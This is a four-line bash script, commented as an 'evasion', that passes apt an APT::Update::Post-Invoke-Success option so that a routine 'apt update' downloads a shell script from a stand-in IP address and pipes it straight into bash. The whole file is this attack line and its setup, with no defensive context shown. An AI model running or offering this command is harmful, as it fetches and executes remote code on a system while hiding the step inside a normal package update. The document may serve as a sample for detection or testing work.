#!/bin/bash
# evasion: -o glued to APT::Update::Post-Invoke-Success, whose command apt runs after a good update
s=http://203.0.113.93/u.sh
apt -qq "-oAPT::Update::Post-Invoke-Success::=curl -fsSL $s | bash" update
